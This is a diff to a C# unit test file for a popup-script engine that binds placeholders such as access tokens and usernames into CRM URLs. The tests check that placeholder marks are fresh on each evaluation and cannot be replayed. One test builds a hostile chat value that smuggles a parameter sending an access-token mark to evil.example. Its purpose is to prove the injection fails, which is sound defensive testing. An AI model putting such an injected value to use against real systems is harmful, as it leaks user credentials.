@@ -155,14 +155,63 @@ public sealed class PlaceholderProvenanceTests
     }
 
     [Fact]
-    public void Marks_DifferBetweenCompilationsOfTheSameScript()
+    public void Marks_AreNewOnEveryEvaluation()
     {
-        var first = PopupScript.Compile(TestEvaluators.ReferenceScript);
-        var second = PopupScript.Compile(TestEvaluators.ReferenceScript);
+        var script = PopupScript.Compile(TestEvaluators.ReferenceScript);
 
-        first.Placeholders.MarkFor("{$USERNAME}").Should().NotBe(second.Placeholders.MarkFor("{$USERNAME}"));
-        second.Placeholders.Resolve("https://a.example/?u=" + first.Placeholders.MarkFor("{$USERNAME}"), out _).Should().BeNull("another script's mark is only a fragment here");
+        var first = PlaceholderMarks.Draw(script.Placeholders);
+        var second = PlaceholderMarks.Draw(script.Placeholders);
+
+        first[0].Should().NotBe(second[0]);
+        second.Resolve("https://a.example/?u=" + first[0], out _).Should().BeNull("an earlier evaluation's mark is only a fragment now");
     }
+
+    [Fact]
+    public void AMarkOneEvaluationPrinted_SentBackByTheNextCaller_NeverBinds()
+    {
+        // A script prints a placeholder's mark (percent-encoded) in its error message; a later caller sends it back in chat data.
+        var evaluator = TestEvaluators.ForScript("""
+            function popup(call) {
+              var chat = JSON.parse(call.CALL_CHANNELDATA || '{}');
+              var crm = 'https://crm.example/agent?t={$ACCESS_TOKEN}';
+              if (!chat.customer) throw new Error('chat without customer; would have opened ' + encodeURIComponent(crm));
+              return { onAnswer: 'https://crm.example/search?customer=' + chat.customer + '&op={$USERNAME}' };
+            }
+            """);
+        var first = evaluator.Evaluate(WithChatData("{}"));
+        var printed = Uri.UnescapeDataString(System.Text.RegularExpressions.Regex.Match(first.Message!, "would have opened (\\S+)").Groups[1].Value);
+        var mark = printed["https://crm.example/agent?t=".Length..];
+
+        var second = evaluator.Evaluate(WithChatData(System.Text.Json.JsonSerializer.Serialize(new { customer = "x&back=https://evil.example/c?t=" + mark + "#" })));
+
+        mark.Should().StartWith("\uE000", "the message did carry a mark: the attack is real");
+        second.Url.Should().NotContain("token-VALUE");
+    }
+
+    [Theory]
+    [InlineData("var u = { '{$USERNAME}': 1 };", 1, 12)]
+    [InlineData("class K { '{$USERNAME}'() {} }", 1, 12)]
+    [InlineData("var u = String.raw`x{$USERNAME}`;", 1, 21)]
+    public void TryCompile_PlaceholderWhereALiteralIsRequired_WarnsAndIsNotBound(string topLevel, int line, int column)
+    {
+        PopupScript.TryCompile(topLevel + "\nfunction popup(call) { return { onAnswer: 'https://crm.example/' }; }", "where.js", null, out _, out var diagnostics).Should().BeTrue();
+
+        diagnostics.Should().ContainSingle().Which.Should().BeEquivalentTo(new { Code = PopupDiagnosticCodes.PlaceholderNotWhole, Line = line, Column = column });
+    }
+
+    [Fact]
+    public void TopLevelVariableHoldingAPlaceholder_IsBoundOnEveryCall()
+    {
+        var evaluator = TestEvaluators.ForScript("var crm = 'https://crm.example/?u={$USERNAME}';\nfunction popup(call) { return { onAnswer: crm }; }");
+
+        evaluator.Evaluate(TestEvaluators.Request(agent: Agent)).Url.Should().Be("https://crm.example/?u=user-VALUE");
+        evaluator.Evaluate(TestEvaluators.Request(agent: Agent)).Url.Should().Be("https://crm.example/?u=user-VALUE", "the second evaluation has new marks");
+    }
+
+    private static PopupRequest WithChatData(string chatData) => TestEvaluators.Request(agent: Agent) with
+    {
+        Call = new CallVariables { Service = TestEvaluators.Service, ChannelSessionId = Guid.NewGuid().ToString(), ChannelData = chatData },
+    };
 
     [Fact]
     public void Provider_CallerPlaceholder_IsText()
